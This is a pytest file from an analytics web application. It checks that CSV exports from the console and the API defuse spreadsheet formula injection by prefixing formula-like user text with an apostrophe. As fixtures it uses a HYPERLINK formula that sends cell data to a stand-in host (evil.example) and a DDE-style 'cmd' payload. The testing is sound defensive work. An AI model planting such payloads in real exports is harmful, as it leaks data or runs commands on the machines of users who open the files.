"""CSV exports never hand a spreadsheet a formula: text a user typed (a customer source, a cost channel)
that starts like one goes out prefixed with an apostrophe, on the console and the API exports alike."""

from __future__ import annotations

from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select, update
from sqlalchemy.orm import Session

from siyu.customers.models import Customer
from siyu.demo.loader import LoadSummary, load_world
from siyu.demo.world import generate_world
from siyu.kit.csvexport import FORMULA_STARTS, csv_text, neutralise
from siyu.tenancy import service as identity
from siyu.tenancy.models import User
from siyu.web.i18n import LANG_COOKIE

from .test_analytics_pages import login, read_csv

pytestmark = pytest.mark.slow

SOURCE = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
CHANNEL = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_neutralise_prefixes_formula_text_only() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("-5") == "'-5"  # text, as typed: it could be "-2+3" just as well
    assert neutralise(-5) == -5 and neutralise(-0.25) == -0.25  # numbers stay numbers
    assert neutralise("抖音评论") == "抖音评论" and neutralise(None) == ""
    assert csv_text(["a"], [["=1+1", 2]]).splitlines() == ["\ufeffa", "'=1+1,2"]


@pytest.fixture
def poisoned(engine: Engine, db: Session) -> LoadSummary:
    """The sandbox brand, one of whose sources is a formula."""
    summary = load_world(engine, generate_world(customers=150, seed=1))
    with engine.begin() as conn:
        source = conn.scalar(select(Customer.source).where(Customer.source.is_not(None)).limit(1))
        conn.execute(update(Customer).where(Customer.source == source).values(source=SOURCE))
    return summary


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_safe(rows: list[list[str]], *poison: str) -> None:
    cells = _cells(rows)
    for p in poison:
        assert f"'{p}" in cells, (p, rows[:4])
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start with "-" or "+"


def test_exports_neutralise_formulas(client: TestClient, poisoned: LoadSummary, db: Session) -> None:
    client.cookies.set(LANG_COOKIE, "en")
    csrf = login(client, poisoned.admin.email, poisoned.admin.password)
    first = db.scalar(select(func.min(Customer.created_at)).where(Customer.org_id == poisoned.org_id))
    assert first is not None
    start = (first + timedelta(hours=8)).date()
    end = start + timedelta(days=120)
    cost = {
        "csrf_token": csrf,
        "channel": CHANNEL,
        "dimension": "source",
        "period_start": start.isoformat(),
        "period_end": end.isoformat(),
        "cost_yuan": "100",
        "note": "",
    }
    assert client.post("/analytics/roi/costs", data=cost, follow_redirects=False).status_code == 303
    dates = f"date_from={start.isoformat()}&date_to={end.isoformat()}"

    funnel = read_csv(
        client.get("/analytics/funnel.csv?step=customer_added&step=message_received&breakdown=source")
    )
    _assert_safe(funnel, SOURCE)
    _assert_safe(read_csv(client.get("/analytics/repurchase.csv?by=source")), SOURCE)
    _assert_safe(read_csv(client.get(f"/analytics/roi.csv?{dates}&dimension=source")), SOURCE, CHANNEL)

    admin = db.scalars(select(User).where(User.email == poisoned.admin.email)).one()
    token = {"Authorization": f"Bearer {identity.issue_api_token(db, admin, 'export').plaintext}"}
    db.commit()
    api_funnel = client.post(
        "/api/v1/analytics/funnel?format=csv",
        json={
            "steps": [{"event_type": "customer_added"}, {"event_type": "message_received"}],
            "breakdown": "source",
        },
        headers=token,
    )
    _assert_safe(read_csv(api_funnel), SOURCE)
    _assert_safe(
        read_csv(client.get(f"/api/v1/analytics/roi?{dates}&format=csv", headers=token)), SOURCE, CHANNEL
    )
    _assert_safe(read_csv(client.get("/api/v1/analytics/channel-costs?format=csv", headers=token)), CHANNEL)
